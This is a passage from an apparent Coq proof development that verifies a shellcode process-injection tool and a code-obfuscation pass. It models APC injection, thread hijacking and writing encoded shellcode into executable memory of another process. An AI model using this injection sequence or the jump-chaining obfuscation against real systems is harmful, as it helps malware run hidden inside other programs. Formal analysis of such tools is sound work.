                  (SuspendThread ht, Returned suspended);
                  (GetThreadContext ht, Returned got);
                  (ResumeThread ht, Returned resumed);
                  (CloseHandle ht, Returned closed) ]).
Proof.
  intros run. subst run.
  destruct (thread_hijack_run env config h_process shellcode_addr pid s)
    as (s' & b & ext & -> & H).
  by exists b, ext.
Qed.

(** The first loop of [_apc_injection]: the handles collected are the
    thread handles the trace shows as opened. *)
Lemma apc_open_loop (env : Env) (ids : list Z) (acc : list Z) (s : State) :
  exists s' r ext,
    for_each
      (λ (threads : list Z) (thread_id : Z),
         bindM (syscall env (OpenThread 0x0020 false thread_id))
           (λ h_thread,
              ret (if h_thread =? 0 then threads else threads ++ [h_thread])))
      ids acc s = (s', r) /\
    trace s' = trace s ++ ext /\
    closed_handles ext = [] /\
    ((exists hs,
        r = Returned (acc ++ hs) /\ opened_threads ext = hs /\
        Forall answered ext) \/
     (exists e, r = Raised e /\ ~ Forall answered ext)).
Proof.
  revert acc s. induction ids as [|tid ids IH]; intros acc s; cbn [for_each].
  - eexists _, _, []. split; [reflexivity|]. rewrite !app_nil_r.
    split_and!; [done|done|]. left. exists []. by rewrite app_nil_r.
  - unfold bindM at 1. unfold bindM at 1, syscall at 1.
    set (open := OpenThread 0x0020 false tid).
    destruct (kernel32 env (trace s) open) as [h|e] eqn:Hopen.
    + unfold ret at 1.
      set (s1 := MkState _ _ _).
      destruct (IH (if h =? 0 then acc else acc ++ [h]) s1)
        as (s' & r & ext & -> & Htr & Hc & Hcases).
      eexists _, _, ([(open, Returned h)] ++ ext). split; [reflexivity|].
      rewrite Htr, closed_handles_app, Hc. subst s1. cbn [trace].
      rewrite <- app_assoc. split_and!; [done|done|].
      destruct Hcases as [(hs & -> & Ho & Ha)|(e & -> & Hn)].
      * left. exists ((if h =? 0 then [] else [h]) ++ hs).
        rewrite opened_threads_app, Ho. split_and!.
        -- f_equal. destruct (h =? 0); [done|]. by rewrite <- app_assoc.
        -- cbn. by destruct (h =? 0).
        -- apply Forall_app. split; [|done].
           apply Forall_singleton. by exists h.
      * right. exists e. split; [done|]. intros Ha. apply Hn.
        by apply Forall_app in Ha as [_ Ha].
    + eexists _, _, [(open, Raised e)]. split; [reflexivity|].
      split_and!; [done|done|]. right. exists e. split; [done|].
      intros Ha. apply Forall_singleton in Ha as [z Hz]. discriminate Hz.
Qed.

(** The second loop: every handle is closed after its APC was queued, until
    a call raises. *)
Lemma apc_queue_loop (env : Env) (shellcode_addr : Z) (threads : list Z)
    (success : bool) (s : State) :
  exists s' r ext,
    for_each
      (λ (success : bool) (h_thread : Z),
         bindM (syscall env (QueueUserAPC shellcode_addr h_thread 0))
           (λ queued,
              bindM (syscall env (CloseHandle h_thread))
                (λ _, ret (if queued =? 0 then success else true))))
      threads success s = (s', r) /\
    trace s' = trace s ++ ext /\
    opened_threads ext = [] /\
    ((exists b,
        r = Returned b /\ closed_handles ext = threads /\
        Forall answered ext /\
        (b = true ->
         success = true \/
         exists h_thread w,
           w <> 0 /\
           (QueueUserAPC shellcode_addr h_thread 0, Returned w) ∈ ext)) \/
     (exists e,
        r = Raised e /\ closed_handles ext `prefix_of` threads /\
        ~ Forall answered ext)).
Proof.
  revert success s.
  induction threads as [|ht threads IH]; intros success s; cbn [for_each].
  - eexists _, _, []. split; [reflexivity|]. rewrite !app_nil_r.
    split_and!; [done|done|]. left. exists success. split_and!; [done..|].
    by left.
  - unfold bindM at 1. unfold bindM at 1, syscall at 1.
    set (queue := QueueUserAPC shellcode_addr ht 0).
    destruct (kernel32 env (trace s) queue) as [w|e] eqn:Hqueue.
    + unfold bindM at 1, syscall at 1. cbn [trace progress rt].
      set (close := CloseHandle ht).
      destruct (kernel32 env (trace s ++ [(queue, Returned w)]) close)
        as [c|e] eqn:Hclose.
      * unfold ret at 1.
        set (s1 := MkState _ _ _).
        destruct (IH (if w =? 0 then success else true) s1)
          as (s' & r & ext & -> & Htr & Ho & Hcases).
        eexists _, _, ([(queue, Returned w); (close, Returned c)] ++ ext).
        split; [reflexivity|].
        rewrite Htr, opened_threads_app, Ho. subst s1. cbn [trace].
        rewrite <- !app_assoc. split_and!; [done|done|].
        destruct Hcases as [(b & -> & Hc & Ha & Hb)|(e & -> & Hp & Hn)].
        -- left. exists b. rewrite closed_handles_app, Hc.
           split_and!; [done|done| |].
           ++ apply Forall_app. split; [|done].
              repeat constructor; by eexists.
           ++ intros ->. destruct (Hb eq_refl) as [Hs|(h' & w' & Hw' & Hin)].
              ** destruct (Z.eqb_spec w 0) as [->|Hw]; [by left|].
                 right. exists ht, w. split; [done|].
                 apply elem_of_app. left. by left.
              ** right. exists h', w'. split; [done|].
                 apply elem_of_app. by right.
        -- right. exists e. rewrite closed_handles_app.
           split_and!; [done| |].
           ++ cbn. by apply prefix_cons.
           ++ intros Ha. apply Hn. by apply Forall_app in Ha as [_ Ha].
      * eexists _, _, [(queue, Returned w); (close, Raised e)].
        split; [reflexivity|]. rewrite <- app_assoc.
        split_and!; [done|done|]. right. exists e.
        split_and!; [done| |].
        -- cbn. by apply prefix_cons, prefix_nil.
        -- intros Ha. apply Forall_cons in Ha as [_ Ha].
           apply Forall_singleton in Ha as [z Hz]. discriminate Hz.
    + eexists _, _, [(queue, Raised e)]. split; [reflexivity|].
      split_and!; [done|done|]. right. exists e.
      split_and!; [done|apply prefix_nil|].
      intros Ha. apply Forall_singleton in Ha as [z Hz]. discriminate Hz.
Qed.

Lemma apc_injection_run (env : Env) (config : PyVal)
    (h_process shellcode_addr pid : Z) (s : State) :
  exists s' b ext,
    _apc_injection env config h_process shellcode_addr pid s
    = (s', Returned b) /\
    trace s' = trace s ++ ext /\
    closed_handles ext `prefix_of` opened_threads ext /\
    (Forall answered ext -> closed_handles ext = opened_threads ext) /\
    (b = true ->
     Forall answered ext /\
     exists h_thread w,
       w <> 0 /\ (QueueUserAPC shellcode_addr h_thread 0, Returned w) ∈ ext).
Proof.
  unfold _apc_injection, try_except.
  unfold bindM at 1, threads_of at 1.
  destruct (process_threads env (trace s) pid) as [ids|e0].
  2: { eexists _, false, []. cbn. rewrite app_nil_r.
       split_and!; [done|done|done|done|discriminate]. }
  unfold bindM at 1.
  destruct (apc_open_loop env ids [] s) as (s1 & r1 & ext1 & -> & Htr1 & Hc1 & H1).
  destruct H1 as [(hs & -> & Ho1 & Ha1)|(e & -> & Hn1)].
  2: { eexists _, false, ext1. cbn. rewrite Hc1.
       split_and!; [done|done|apply prefix_nil|by intros ?|discriminate]. }
  cbn [app]. destruct hs as [|ht hs].
  { eexists _, false, ext1. cbn. rewrite Hc1, Ho1.
    split_and!; [done|done|done|done|discriminate]. }
  destruct (apc_queue_loop env shellcode_addr (ht :: hs) false s1)
    as (s2 & r2 & ext2 & -> & Htr2 & Ho2 & H2).
  destruct H2 as [(b & -> & Hc2 & Ha2 & Hb)|(e & -> & Hp2 & Hn2)].
  - eexists _, b, (ext1 ++ ext2). split; [reflexivity|].
    rewrite Htr2, Htr1, <- app_assoc, closed_handles_app, opened_threads_app,
      Hc1, Hc2, Ho1, Ho2, app_nil_r.
    split_and!; [done|done|done|].
    intros ->. split; [by apply Forall_app|].
    destruct (Hb eq_refl) as [?|(h' & w & Hw & Hin)]; [done|].
    exists h', w. split; [done|]. apply elem_of_app. by right.
  - eexists _, false, (ext1 ++ ext2). cbn [log_error bindM ret].
    split; [reflexivity|]. cbn [trace].
    rewrite Htr2, Htr1, <- app_assoc, closed_handles_app, opened_threads_app,
      Hc1, Ho1, Ho2, app_nil_r.
    split_and!; [done|done| |discriminate].
    intros Ha. exfalso. apply Hn2. by apply Forall_app in Ha as [_ Ha].
Qed.

(** [_apc_injection] never raises.  The handles it passes to
    [CloseHandle] are, in order, a prefix of the thread handles it opened;
    they are all of them when no system call raised, and in particular
    whenever it returns [True], which it does only if some APC was queued. *)
Theorem apc_injection_closes_threads_unless_a_call_raises (env : Env)
    (config : PyVal) (h_process shellcode_addr pid : Z) (s : State) :
  let run := _apc_injection env config h_process shellcode_addr pid s in
  exists b ext,
    run.2 = Returned b /\
    trace run.1 = trace s ++ ext /\
    closed_handles ext `prefix_of` opened_threads ext /\
    (Forall answered ext -> closed_handles ext = opened_threads ext) /\
    (b = true ->
     Forall answered ext /\
     exists h_thread w,
       w <> 0 /\ (QueueUserAPC shellcode_addr h_thread 0, Returned w) ∈ ext).
Proof.
  intros run. subst run.
  destruct (apc_injection_run env config h_process shellcode_addr pid s)
    as (s' & b & ext & -> & H).
  by exists b, ext.
Qed.

(** When queueing raises, the thread handle that was opened stays open. *)
Example apc_injection_leaks_when_a_call_raises :
  let run := _apc_injection (world apc_raising_kernel)
               (injector_config_with "apc") 0x1A4 0x7FF00000 4242 idle in
  run.2 = Returned false /\
  opened_threads (trace run.1) = [1] /\ closed_handles (trace run.1) = [].
Proof. vm_compute. done. Qed.

(** ** What a successful injection has done (tools/process_injector.py) *)

Lemma py_eq_str (v : PyVal) (t : string) :
  py_eq v (PyStr t) = true -> v = PyStr t.
Proof.
  destruct v; cbn; try discriminate.
  intros H. apply String.eqb_eq in H. by subst.
Qed.

Lemma bindM_returns {A B} (m : M A) (k : A -> M B) (s s' : State) (b : B) :
  bindM m k s = (s', Returned b) ->
  exists s1 a, m s = (s1, Returned a) /\ k a s1 = (s', Returned b).
Proof.
  unfold bindM. destruct (m s) as [s1 [a|e]]; [|discriminate].
  intros H. by exists s1, a.
Qed.

Lemma syscall_returns (env : Env) (c : Kernel32) (s s' : State) (z : Z) :
  syscall env c s = (s', Returned z) ->
  trace s' = trace s ++ [(c, Returned z)] /\
  progress s' = progress s /\ rt s' = rt s.
Proof.
  unfold syscall. intros H. injection H as <- Hz. cbn. by rewrite Hz.
Qed.

Lemma update_progress_returns (env : Env) (cur tot : Z) (msg : string)
    (s s' : State) (u : unit) :
  update_progress env cur tot msg s = (s', Returned u) ->
  trace s' = trace s /\ rt s' = rt s /\
  ToolBase.current (progress s') = cur /\ ToolBase.total (progress s') = tot /\
  ToolBase.message (progress s') = msg.
Proof. unfold update_progress. intros H. injection H as <-. by cbn. Qed.

Lemma config_at_returns (config : PyVal) (a b : string) (s s' : State)
    (v : PyVal) :
  config_at config a b s = (s', Returned v) ->
  s' = s /\ (section ← py_getitem config a; py_getitem section b) = Returned v.
Proof. unfold config_at, lift. intros H. by injection H as <- ->. Qed.

Lemma encrypt_step_returns (config enc : PyVal) (shellcode out : list Z)
    (s s' : State) :
  injection_encryption config = Returned enc ->
  (if negb (py_eq enc (PyStr "none"))
   then _encrypt_shellcode config shellcode
   else ret shellcode) s = (s', Returned out) ->
  s' = s /\ out = payload enc shellcode.
Proof.
  intros Henc. unfold payload.
  destruct (py_eq enc (PyStr "none")) eqn:Hnone; cbn [negb].
  - apply py_eq_str in Hnone as ->. cbn. intros H. by injection H as <- <-.
  - unfold _encrypt_shellcode. intros H.
    apply bindM_returns in H as (s1 & method & H1 & H).
    apply config_at_returns in H1 as [-> H1].
    unfold injection_encryption in Henc. rewrite Henc in H1.
    injection H1 as <-.
    destruct (py_eq enc (PyStr "xor")).
    + unfold lift, bytes_of in H.
      destruct (forallb is_byte _); [|discriminate].
      by injection H as <- <-.
    + by injection H as <- <-.
Qed.

Lemma inject_with_handle_returns (env : Env) (config : PyVal)
    (pid h_process : Z) (shellcode : list Z) (s s' : State) (b : bool) :
  inject_with_handle env config pid h_process shellcode s = (s', Returned b) ->
  b = true /\
  exists enc method addr w rest,
    injection_encryption config = Returned enc /\
    injection_method config = Returned method /\
    method ∈ implemented_methods /\
    addr <> 0 /\ w <> 0 /\
    trace s'
    = trace s
      ++ [ (VirtualAllocEx h_process 0 (len (payload enc shellcode))
              (Z.lor MEM_COMMIT MEM_RESERVE) PAGE_EXECUTE_READWRITE,
            Returned addr);
           (WriteProcessMemory h_process addr (payload enc shellcode)
              (len (payload enc shellcode)),
            Returned w) ]
      ++ rest /\
    Forall (λ ev, ~ is_open_process ev) rest /\
    ToolBase.current (progress s') = 5 /\
    ToolBase.message (progress s') = "注入完成".
Proof.
  unfold inject_with_handle. intros H.
  apply bindM_returns in H as (s1 & enc & H1 & H).
  apply config_at_returns in H1 as [-> Henc].
  apply bindM_returns in H as (s1 & out & H1 & H).
  apply (encrypt_step_returns config enc) in H1 as [-> ->]; [|exact Henc].
  apply bindM_returns in H as (s1 & [] & H1 & H).
  apply update_progress_returns in H1 as (Ht1 & _).
  apply bindM_returns in H as (s2 & addr & H2 & H).
  apply syscall_returns in H2 as (Ht2 & _).
  destruct (Z.eqb_spec addr 0) as [->|Haddr]; [discriminate|].
  apply bindM_returns in H as (s3 & [] & H3 & H).
  apply update_progress_returns in H3 as (Ht3 & _).
  apply bindM_returns in H as (s4 & w & H4 & H).
  apply syscall_returns in H4 as (Ht4 & _).
  destruct (Z.eqb_spec w 0) as [->|Hw]; [discriminate|].
  apply bindM_returns in H as (s5 & [] & H5 & H).
  apply update_progress_returns in H5 as (Ht5 & _).
  apply bindM_returns in H as (s6 & method & H6 & H).
  apply config_at_returns in H6 as [-> Hmethod].
  apply bindM_returns in H as (s6 & success & H6 & H).
  destruct success; cbn [negb] in H; [|discriminate].
  apply bindM_returns in H as (s7 & protect & H7 & H).
  apply config_at_returns in H7 as [-> _].
  apply bindM_returns in H as (s7 & [] & H7 & H).
  apply bindM_returns in H as (s8 & [] & H8 & H).
  apply update_progress_returns in H8 as (Ht8 & _ & Hcur & _ & Hmsg).
  injection H as <- <-.
  assert (Hs7 : s7 = s6).
  { destruct (truthy protect); by injection H7 as <-. }
  subst s7.
  assert (Hdispatch : method ∈ implemented_methods /\
            exists rest, trace s6 = trace s5 ++ rest /\
                         Forall (λ ev, ~ is_open_process ev) rest).
  { unfold implemented_methods.
    destruct (py_eq method (PyStr "classic")) eqn:E1.
    { apply py_eq_str in E1 as ->. split; [by left|].
      destruct (adds_classic_injection env config h_process addr s5)
        as (rest & Hrest & Frest).
      rewrite H6 in Hrest. by exists rest. }
    destruct (py_eq method (PyStr "apc")) eqn:E2.
    { apply py_eq_str in E2 as ->. split; [by right; left|].
      destruct (adds_apc_injection env config h_process addr pid s5)
        as (rest & Hrest & Frest).
      rewrite H6 in Hrest. by exists rest. }
    destruct (py_eq method (PyStr "thread_hijack")) eqn:E3.
    { apply py_eq_str in E3 as ->. split; [by right; right; left|].
      destruct (adds_thread_hijack env config h_process addr pid s5)
        as (rest & Hrest & Frest).
      rewrite H6 in Hrest. by exists rest. }
    discriminate H6. }
  destruct Hdispatch as (Hin & rest & Ht6 & Frest).
  split; [done|].
  exists enc, method, addr, w, rest.
  split_and!; [done|done|done|done|done| |done|done|done].
  rewrite Ht8, Ht6, Ht5, Ht4, Ht3, Ht2, Ht1. by rewrite <- !app_assoc.
Qed.

Lemma try_except_reraise_returns {A} (body : M A) (ctx : string)
    (s s' : State) (a : A) :
  try_except body (λ e, bindM (log_error e ctx) (λ _, lift (Raised e))) s
  = (s', Returned a) ->
  body s = (s', Returned a).
Proof.
  unfold try_except. destruct (body s) as [s1 [x|e]]; [done|discriminate].
Qed.

Lemma try_finally_returns {A} (body : M A) (fin : M unit) (s s' : State)
    (a : A) :
  try_finally body fin s = (s', Returned a) ->
  exists s1, body s = (s1, Returned a) /\ fin s1 = (s', Returned tt).
Proof.
  unfold try_finally. destruct (body s) as [s1 r].
  destruct (fin s1) as [s2 [[]|e]] eqn:Hfin; [|discriminate].
  intros H. injection H as <- ->. by exists s1.
Qed.

Lemma inject_body_reaches_handle (env : Env) (config : PyVal) (pid : Z)
    (shellcode_file : string) (s s' : State) (b : bool) :
  inject_body env config pid shellcode_file s = (s', Returned b) ->
  exists shellcode h s1 s2 closed,
    read_file env shellcode_file = Returned shellcode /\
    h <> 0 /\
    trace s1
    = trace s ++ [(OpenProcess PROCESS_ALL_ACCESS false pid, Returned h)] /\
    inject_with_handle env config pid h shellcode s1 = (s2, Returned b) /\
    syscall env (CloseHandle h) s2 = (s', Returned closed).
Proof.
  unfold inject_body. intros H. apply try_except_reraise_returns in H.
  destruct (path_exists env shellcode_file); cbn [negb] in H; [|discriminate].
  apply bindM_returns in H as (s1 & alive & H1 & H).
  unfold lift in H1. injection H1 as <- Halive.
  destruct alive; cbn [negb] in H; [|discriminate].
  apply bindM_returns in H as (s1 & shellcode & H1 & H).
  unfold lift in H1. injection H1 as <- Hread.
  apply bindM_returns in H as (s1 & [] & H1 & H).
  apply update_progress_returns in H1 as (Ht1 & _).
  apply bindM_returns in H as (s2 & h & H2 & H).
  apply syscall_returns in H2 as (Ht2 & _).
  destruct (Z.eqb_spec h 0) as [->|Hh]; [discriminate|].
  apply try_finally_returns in H as (s3 & H3 & H4).
  apply bindM_returns in H4 as (s4 & closed & H4 & H5).
  injection H5 as <-.
  exists shellcode, h, s2, s3, closed.
  split_and!; [done|done| |done|done]. by rewrite Ht2, Ht1.
Qed.

(** [inject] returns from its body only with [True], and only after
    it has opened the process, allocated executable memory of the size of
    the payload, written the payload there (the file's bytes, XORed with
    [0xAA] when the configured encryption is ["xor"], unchanged otherwise)
    and run one of the three implemented methods, each call having given a
    non-zero result; the process handle is closed last, and the progress
    stands at 5 of 5. *)
Theorem inject_returns_only_after_writing (env : Env) (config : PyVal)
    (pid : Z) (shellcode_file : string) (s s' : State) (b : bool) :
  inject_body env config pid shellcode_file s = (s', Returned b) ->
  b = true /\
  exists shellcode enc method h addr w rest closed,
    read_file env shellcode_file = Returned shellcode /\
    injection_encryption config = Returned enc /\
    injection_method config = Returned method /\
    method ∈ implemented_methods /\
    h <> 0 /\ addr <> 0 /\ w <> 0 /\
    trace s'
    = trace s
      ++ [ (OpenProcess PROCESS_ALL_ACCESS false pid, Returned h);
           (VirtualAllocEx h 0 (len (payload enc shellcode))
              (Z.lor MEM_COMMIT MEM_RESERVE) PAGE_EXECUTE_READWRITE,
            Returned addr);
           (WriteProcessMemory h addr (payload enc shellcode)
              (len (payload enc shellcode)),
            Returned w) ]
      ++ rest ++ [(CloseHandle h, Returned closed)] /\
    Forall (λ ev, ~ is_open_process ev) rest /\
    ToolBase.current (progress s') = 5 /\
    ToolBase.message (progress s') = "注入完成".
Proof.
  intros H.
  apply inject_body_reaches_handle in H
    as (shellcode & h & s1 & s2 & closed & Hread & Hh & Ht1 & Hbody & Hclose).
  apply inject_with_handle_returns in Hbody
    as (-> & enc & method & addr & w & rest & Henc & Hmethod & Hin & Haddr & Hw
        & Ht2 & Frest & Hcur & Hmsg).
  apply syscall_returns in Hclose as (Ht3 & Hp3 & _).
  split; [done|].
  exists shellcode, enc, method, h, addr, w, rest, closed.
  rewrite Hp3.
  split_and!; [done..| |done|done|done].
  rewrite Ht3, Ht2, Ht1. by rewrite <- !app_assoc.
Qed.

Lemma inject_returns_only_after_writing_witness :
  true = true /\
  exists shellcode enc method h addr w rest closed,
    read_file (world friendly_kernel) "payload.bin" = Returned shellcode /\
    injection_encryption injector_config = Returned enc /\
    injection_method injector_config = Returned method /\
    method ∈ implemented_methods /\
    h <> 0 /\ addr <> 0 /\ w <> 0 /\
    trace (inject_body (world friendly_kernel) injector_config 4242
             "payload.bin" idle).1
    = trace idle
      ++ [ (OpenProcess PROCESS_ALL_ACCESS false 4242, Returned h);
           (VirtualAllocEx h 0 (len (payload enc shellcode))
              (Z.lor MEM_COMMIT MEM_RESERVE) PAGE_EXECUTE_READWRITE,
            Returned addr);
           (WriteProcessMemory h addr (payload enc shellcode)
              (len (payload enc shellcode)),
            Returned w) ]
      ++ rest ++ [(CloseHandle h, Returned closed)] /\
    Forall (λ ev, ~ is_open_process ev) rest /\
    ToolBase.current
      (progress (inject_body (world friendly_kernel) injector_config 4242
                   "payload.bin" idle).1) = 5 /\
    ToolBase.message
      (progress (inject_body (world friendly_kernel) injector_config 4242
                   "payload.bin" idle).1) = "注入完成".
Proof.
  apply (inject_returns_only_after_writing (world friendly_kernel)
           injector_config 4242 "payload.bin" idle).
  vm_compute. reflexivity.
Defined.

(** With a configured method other than ["classic"], ["apc"] and
    ["thread_hijack"] (["module_load"], which the schema accepts, is one),
    or with none that can be read, [inject] never succeeds: its body always
    raises, and the caller receives the structured error result, which is
    truthy. *)
Theorem inject_fails_for_other_methods (env : Env) (config : PyVal)
    (pid : Z) (shellcode_file : string) (s : State) :
  (forall method,
     injection_method config = Returned method ->
     method ∉ implemented_methods) ->
  (exists e, (inject_body env config pid shellcode_file s).2 = Raised e) /\
  (exists d,
     (inject env config pid shellcode_file s).2 = Returned d /\
     truthy d = true /\
     py_getitem d "status" = Returned (PyStr "error")).
Proof.
  intros Hother.
  assert (Hraised :
    exists e, (inject_body env config pid shellcode_file s).2 = Raised e).
  { destruct (inject_body env config pid shellcode_file s) as [s' [b|e]] eqn:H;
      [|by exists e].
    apply inject_body_reaches_handle in H
      as (shellcode & h & s1 & s2 & closed & _ & _ & _ & Hbody & _).
    apply inject_with_handle_returns in Hbody
      as (_ & enc & m & addr & w & rest & _ & Hm & Hin & _).
    by destruct (Hother m Hm). }
  split; [done|]. destruct Hraised as [e He].
  unfold inject.
  destruct (inject_body env config pid shellcode_file s) as [s1 r].
  cbn [snd] in He. subst r.
  destruct (error_result_truthy "inject" e (rt s1)) as (rt' & d & -> & Ht & Hs & _).
  by exists d.
Qed.

Lemma inject_fails_for_other_methods_witness :
  (exists e,
     (inject_body (world friendly_kernel) (injector_config_with "module_load")
        4242 "payload.bin" idle).2 = Raised e) /\
  (exists d,
     (inject (world friendly_kernel) (injector_config_with "module_load")
        4242 "payload.bin" idle).2 = Returned d /\
     truthy d = true /\
     py_getitem d "status" = Returned (PyStr "error")).
Proof.
  apply (inject_fails_for_other_methods (world friendly_kernel)
           (injector_config_with "module_load") 4242 "payload.bin" idle).
  intros method Hm. vm_compute in Hm. injection Hm as <-.
  unfold implemented_methods.
  intros Hin.
  repeat (apply elem_of_cons in Hin as [Hin|Hin]; [discriminate|]).
  by apply elem_of_nil in Hin.
Defined.

(** The shellcode is in the target by the time the unimplemented method
    makes the injection fail. *)
Example inject_module_load_writes_then_fails :
  let run := inject_body (world friendly_kernel)
               (injector_config_with "module_load") 4242 "payload.bin" idle in
  run.2 = Raised (raise_exc OperationError "注入失败") /\
  map fst (trace run.1)
  = [ OpenProcess 0x1F0FFF false 4242;
      VirtualAllocEx 0x1A4 0 2 0x3000 0x40;
      WriteProcessMemory 0x1A4 0x7FF00000 [0x3A; 0x69] 2;
      CloseHandle 0x1A4 ].
Proof. vm_compute. done. Qed.

(** ** The control-flow pass (tools/obfuscator.py) *)

Lemma concat_blocks (bs : nat) (data : list Z) (c : nat) :
  concat (map (λ k : nat, take bs (drop (bs * k) data)) (seq 0 c))
  = take (bs * c) data.
Proof.
  induction c as [|c IH].
  - by rewrite Nat.mul_0_r.
  - rewrite seq_S, map_app, concat_app, IH. cbn [map concat Nat.add].
    rewrite app_nil_r, take_take_drop. f_equal. lia.
Qed.

Lemma block_count (bs n : Z) :
  0 < bs -> 0 <= n ->
  let c := (n + bs - 1) / bs in
  0 <= c /\ n <= bs * c /\ (0 < n -> bs * (c - 1) < n /\ 0 < c) /\
  (n = 0 -> c = 0).
Proof.
  intros Hbs Hn c. subst c. split_and!.
  - apply Z.div_pos; lia.
  - Z.div_mod_to_equations. nia.
  - intros Hpos. Z.div_mod_to_equations. nia.
  - intros ->. Z.div_mod_to_equations. nia.
Qed.

Lemma blocks_of_concat (bs : Z) (data : list Z) :
  0 < bs -> concat (blocks_of bs data) = data.
Proof.
  intros Hbs. unfold blocks_of. rewrite concat_blocks.
  apply take_ge.
  destruct (block_count bs (len data) Hbs) as (Hc & Hle & _);
    [unfold len; lia|].
  unfold len in *. nia.
Qed.

Lemma blocks_of_sizes (bs : Z) (data : list Z) :
  0 < bs ->
  Forall (λ block, 0 < len block <= bs) (blocks_of bs data).
Proof.
  intros Hbs. unfold blocks_of. apply Forall_map, Forall_forall.
  intros k Hk. apply elem_of_seq in Hk as [_ Hk]. cbn in Hk |- *.
  destruct (block_count bs (len data) Hbs) as (Hc & Hle & Hpos & Hzero);
    [unfold len; lia|].
  unfold len in *. rewrite length_take, length_drop.
  destruct (decide (length data = 0)%nat) as [Hz|Hnz].
  - rewrite Hzero in Hk by lia. cbn in Hk. lia.
  - destruct Hpos as [Hlast _]; [lia|]. nia.
Qed.

Lemma slice_block (bs : Z) (k : nat) (data : list Z) :
  0 < bs -> bs * Z.of_nat k <= len data ->
  ObfuscatorPasses.slice (bs * Z.of_nat k) (bs * Z.of_nat k + bs) data
  = take (Z.to_nat bs) (drop (Z.to_nat bs * k) data).
Proof.
  intros Hbs Hk. unfold ObfuscatorPasses.slice, clip, len in *.
  destruct (Z.ltb_spec (bs * Z.of_nat k) 0); [nia|].
  destruct (Z.ltb_spec (bs * Z.of_nat k + bs) 0); [nia|].
  replace (Z.to_nat (Z.min (bs * Z.of_nat k) (Z.of_nat (length data))))
    with (Z.to_nat bs * k)%nat by nia.
  destruct (Z.min_spec (bs * Z.of_nat k + bs) (Z.of_nat (length data)))
    as [[Hlt ->]|[Hge ->]].
  - replace (Z.to_nat (bs * Z.of_nat k + bs))
      with (Z.to_nat bs * k + Z.to_nat bs)%nat by nia.
    by rewrite take_drop_commute.
  - rewrite Nat2Z.id, firstn_all.
    symmetry. apply take_ge. rewrite length_drop. nia.
Qed.

Lemma source_blocks (bs : Z) (data : list Z) :
  0 < bs ->
  exists starts,
    ObfuscatorPasses.py_range 0 (len data) bs = Returned starts /\
    map (λ i, ObfuscatorPasses.slice i (i + bs) data) starts
    = blocks_of bs data.
Proof.
  intros Hbs. unfold ObfuscatorPasses.py_range.
  destruct (Z.eqb_spec bs 0); [lia|].
  destruct (Z.ltb_spec 0 bs); [|lia].
  eexists. split; [reflexivity|].
  unfold blocks_of, seqZ. rewrite !map_map.
  replace (len data - 0 + bs - 1) with (len data + bs - 1) by lia.
  apply map_ext_in. intros k Hk. apply in_seq in Hk as [_ Hk]. cbn in Hk.
  replace (0 + bs * (Z.of_nat k + 0)) with (bs * Z.of_nat k) by lia.
  apply slice_block; [done|].
  destruct (block_count bs (len data) Hbs) as (Hc & Hle & Hpos & Hzero);
    [unfold len; lia|].
  destruct (decide (len data = 0)) as [Hz|Hnz].
  - rewrite Hzero in Hk by done. cbn in Hk. lia.
  - destruct Hpos as [Hlast _]; [unfold len in *; lia|]. nia.
Qed.

Lemma pack_u32_le_small (n : Z) :
  0 <= n < 256 -> ObfuscatorPasses.pack_u32_le n = Returned [n; 0; 0; 0].
Proof.
  intros Hn. unfold ObfuscatorPasses.pack_u32_le.
  destruct (Z.leb_spec 0 n); [|lia].
  destruct (Z.ltb_spec n (2 ^ 32)); [|lia].
  cbn [andb seq map]. change 0xFF with (Z.ones 8).
  rewrite !Z.land_ones, !Z.shiftr_div_pow2 by lia.
  do 2 f_equal; [|do 1 f_equal; [|do 1 f_equal; [|do 1 f_equal]]];
    cbn; Z.div_mod_to_equations; lia.
Qed.

Lemma flow_step_eq (blocks : list (list Z)) (result : list Z) (i : Z)
    (block : list Z) :
  ObfuscatorPasses.flow_step blocks result (i, block)
  = if i <? len blocks - 1 then
      next ← list_getitem blocks (i + 1);
      packed ← ObfuscatorPasses.pack_u32_le (len next);
      Returned ((result ++ block) ++ ([0xE9] ++ packed))
    else Returned (result ++ block).
Proof. reflexivity. Qed.

Lemma flow_loop (front rest : list (list Z)) (acc : list Z) :
  Forall (λ block, len block < 256) rest ->
  foldM (ObfuscatorPasses.flow_step (front ++ rest))
    (zip (seqZ (len front) (len rest)) rest) acc
  = Returned (acc ++ chained rest).
Proof.
  revert front acc.
  induction rest as [|block rest IH]; intros front acc Hsmall.
  - rewrite zip_with_nil_r. cbn. by rewrite app_nil_r.
  - apply Forall_cons in Hsmall as [_ Hsmall].
    rewrite seqZ_cons_len. cbn [zip zip_with foldM].
    rewrite flow_step_eq.
    destruct rest as [|next rest'].
    + destruct (Z.ltb_spec (len front) (len (front ++ [block]) - 1)) as [Hlt|_].
      { unfold len in Hlt. rewrite length_app in Hlt. cbn in Hlt. lia. }
      rewrite zip_with_nil_r. cbn. by rewrite app_nil_r.
    + destruct (Z.ltb_spec (len front)
                  (len (front ++ block :: next :: rest') - 1)) as [_|Hge].
      2: { unfold len in Hge. rewrite length_app in Hge. cbn in Hge. lia. }
      rewrite list_getitem_ok.
      2: { unfold len. rewrite length_app. cbn. lia. }
      replace (front ++ block :: next :: rest')
        with ((front ++ [block]) ++ next :: rest') at 1
        by (by rewrite <- app_assoc).
      replace (Z.to_nat (len front + 1)) with (length (front ++ [block]))
        by (unfold len; rewrite length_app; cbn; lia).
      rewrite list_lookup_total_middle by done.
      cbn [mbind outcome_bind].
      rewrite pack_u32_le_small.
      2: { apply Forall_cons in Hsmall as [Hnext _]. unfold len in *. lia. }
      cbn [mbind outcome_bind].
      replace (front ++ block :: next :: rest')
        with ((front ++ [block]) ++ next :: rest')
        by (by rewrite <- app_assoc).
      replace (len front + 1) with (len (front ++ [block]))
        by (unfold len; rewrite length_app; cbn; lia).
      rewrite IH by done.
      f_equal. cbn [chained jump_before]. by rewrite <- !app_assoc.
Qed.

Lemma chained_bytes (blocks : list (list Z)) :
  Forall (Forall byte) blocks -> Forall (λ block, len block < 256) blocks ->
  Forall byte (chained blocks).
Proof.
  induction blocks as [|block rest IH]; intros Hb Hs; [constructor|].
  apply Forall_cons in Hb as [Hblock Hb]. apply Forall_cons in Hs as [_ Hs].
  cbn [chained]. apply Forall_app. split; [done|].
  apply Forall_app. split; [|by apply IH].
  destruct rest as [|next rest']; [constructor|].
  apply Forall_cons in Hs as [Hnext _].
  unfold jump_before, byte. unfold len in *.
  repeat constructor; lia.
Qed.

Lemma chained_length (blocks : list (list Z)) :
  len (chained blocks)
  = len (concat blocks) + 5 * Z.max 0 (len blocks - 1).
Proof.
